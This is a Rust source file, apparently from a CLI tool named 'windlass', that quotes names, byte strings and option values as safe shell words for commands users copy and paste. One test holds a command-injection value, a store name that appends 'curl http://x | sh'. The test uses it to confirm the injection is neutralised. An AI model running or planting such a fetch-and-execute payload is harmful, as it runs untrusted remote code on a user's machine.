//! Words of a shell, for commands that people copy out of a message.

/// A text as one word of a shell, whatever it holds. What needs no quotes has none.
#[must_use]
pub fn word(text: &str) -> String {
    let plain = |letter: char| letter.is_alphanumeric() || "/._-+,@%=:".contains(letter);
    if !text.is_empty() && text.chars().all(plain) {
        text.to_owned()
    } else {
        format!("'{}'", text.replace('\'', r"'\''"))
    }
}

/// Bytes as one word of a shell. Those that are no text are written in the quotes of bash, zsh and ksh, `$'caf\xE9'`, which POSIX
/// has since 2024.
#[must_use]
pub fn word_of_bytes(bytes: &[u8]) -> String {
    if let Ok(text) = std::str::from_utf8(bytes)
        && !text.contains(super::clean::is_odd_in_name)
    {
        return word(text);
    }
    let mut out = "$'".to_owned();
    // In octal, because three digits end there: a hexadecimal digit that follows would be taken along.
    let octal = |bytes: &[u8], out: &mut String| {
        for byte in bytes {
            out.push_str(&format!("\\{byte:03o}"));
        }
    };
    for chunk in bytes.utf8_chunks() {
        for letter in chunk.valid().chars() {
            match letter {
                '\'' | '\\' => out.extend(['\\', letter]),
                _ if super::clean::is_odd_in_name(letter) => {
                    octal(letter.encode_utf8(&mut [0; 4]).as_bytes(), &mut out)
                }
                _ => out.push(letter),
            }
        }
        octal(chunk.invalid(), &mut out);
    }
    out.push('\'');
    out
}

/// A command of this program for people to type: what it does, and the names to which it does it. A name may hold
/// anything, because it comes from a store: it becomes one word, and none is taken for an option.
#[must_use]
pub fn command(verb: &str, names: &[&str]) -> String {
    let end = if names.iter().any(|name| name.starts_with('-')) { " --" } else { "" };
    let names: String = names.iter().map(|name| format!(" {}", word(name))).collect();
    format!("windlass {verb}{end}{names}")
}

/// The same for one name that may be no text, with what follows it.
#[must_use]
pub fn command_with_bytes(verb: &str, name: &[u8], rest: &str) -> String {
    let end = if name.starts_with(b"-") { " --" } else { "" };
    format!("windlass {verb}{end} {} {rest}", word_of_bytes(name))
}

/// The same where the name is the value of the option at the end of `verb`.
#[must_use]
pub fn command_for(verb: &str, name: &str) -> String {
    format!("windlass {}", with_value(verb, name))
}

/// A verb that ends with an option, and the value of that option, which may be anything.
#[must_use]
pub fn with_value(verb: &str, value: &str) -> String {
    let between = if value.starts_with('-') { '=' } else { ' ' };
    format!("{verb}{between}{}", word(value))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_to_be_typed_is_quoted_for_a_shell() {
        assert_eq!(word("/a/b.toml"), "/a/b.toml");
        assert_eq!(word("/a b/it's"), r"'/a b/it'\''s'");
        assert_eq!((word(""), word("$(x)")), ("''".to_owned(), "'$(x)'".to_owned()));
    }

    #[test]
    fn a_shell_reads_the_bytes_that_were_meant() {
        let long: Vec<u8> = (1..=255).collect();
        for bytes in [&b"caf\xe9"[..], b"\xff0", b"it's\xfe\\", "\u{202e}a".as_bytes(), b"plain", b"a b", &long] {
            let word = word_of_bytes(bytes);
            assert!(!word.contains(super::super::clean::is_unsafe), "{word}");
            let output =
                std::process::Command::new("bash").arg("-c").arg(format!("printf %s {word}")).output().unwrap();
            assert_eq!(output.stdout, bytes, "{word}");
        }
    }

    #[test]
    fn a_name_in_a_command_is_neither_code_nor_an_option() {
        assert_eq!(command("queues resume", &["mail"]), "windlass queues resume mail");
        assert_eq!(command("queues resume", &["--all"]), "windlass queues resume -- --all");
        let to = "sqlite:/a.db; curl http://x | sh #";
        assert_eq!(
            command("store copy --undo", &["redis://h/1", to]),
            "windlass store copy --undo redis://h/1 'sqlite:/a.db; curl http://x | sh #'"
        );
        assert_eq!(command_for("plan --task", "a b"), "windlass plan --task 'a b'");
        assert_eq!(command_for("plan --task", "-x"), "windlass plan --task=-x");
    }
}
